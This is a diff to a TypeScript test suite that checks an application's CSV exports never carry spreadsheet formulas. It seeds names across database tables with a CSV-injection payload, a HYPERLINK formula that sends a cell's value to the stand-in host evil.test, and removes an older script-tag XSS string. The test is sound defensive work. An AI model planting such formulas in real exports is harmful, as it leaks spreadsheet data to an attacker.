@@ -1,28 +1,37 @@
+import { allPrivileges } from '@packline/domain/access/privileges.ts'
 import { describe, expect, test } from 'vitest'
-import { createAccount } from '../people.ts'
-import { nameOf, ofWorld, probeOf, routesOf } from '../route-probes.ts'
+import { signInAs } from '../people.ts'
+import { nameOf, probeOf, routesOf } from '../route-probes.ts'
 import { createTestApp } from '../test-app.ts'
-import { createWorld } from '../world.ts'
+import { goOut, startTestingPeriod } from '../testing-period.ts'
 
 const app = await createTestApp()
 const { db } = app
-const world = await createWorld(app, await createAccount(app))
+const { scene, pendingId } = await startTestingPeriod(app)
+await goOut(app)
+const reader = await signInAs(app, { accountId: scene.accountId, privileges: allPrivileges })
 const routes = routesOf((await app.app.inject({ method: 'GET', url: '/api/docs/json' })).json())
 const files = routes.filter(({ path }) => path.endsWith('.csv'))
 
 const formula = `=HYPERLINK("http://evil.test/?"&A1,"Open")`
-const script = '<script>alert(1)</script>'
-await db.integrationPack.updateMany({ data: { name: formula } })
-await db.component.updateMany({ data: { name: formula } })
-await db.account.updateMany({ data: { name: formula } })
-await db.user.updateMany({ data: { firstName: formula } })
-await db.release.updateMany({ data: { scheduledByName: formula, notes: script } })
-await db.environment.updateMany({ data: { name: formula } })
+/** Whatever has a name bears the formula, and its id behind it where names are there once only. */
+const named = {
+  IntegrationPack: 'name',
+  Component: 'name',
+  Account: 'name',
+  Environment: 'name',
+  Installation: 'name',
+  User: 'firstName',
+}
+for (const [table, column] of Object.entries(named))
+  await db.$executeRawUnsafe(`update "${table}" set "${column}" = $1 || ' ' || id`, formula)
+await db.release.updateMany({ data: { scheduledByName: formula } })
 
 const call = async (route: (typeof routes)[number]) => {
-  const { method, path, query } = probeOf(route, ofWorld(world), world.email)
-  return world.admin.call(method, path, { query })
+  const { method, path, query } = probeOf(route, ({ kind }) => idOf[kind] ?? pendingId, reader.email)
+  return reader.call(method, path, { query })
 }
+const idOf: Record<string, string> = { packId: scene.pack.id, componentId: scene.orders.id }
 
 /** The cells of a CSV file as a spreadsheet has them. */
 const cellsOf = (text: string) =>
@@ -35,7 +44,9 @@ describe('15 no cell of an export is a formula', () => {
 
   test.each(files.map((route) => [nameOf(route), route] as const))('%s', async (_name, route) => {
     // What the account does next is in its log under its new name.
-    await world.admin.call('PATCH', '/user', { body: { firstName: formula } })
+    await reader.call('PATCH', '/user', {
+      body: { firstName: formula.slice(0, 90), lastName: `${Math.random()}` },
+    })
     const answer = await call(route)
     expect(answer.statusCode, answer.body).toBe(200)
     expect(answer.headers['content-disposition']).toMatch(/^attachment/)
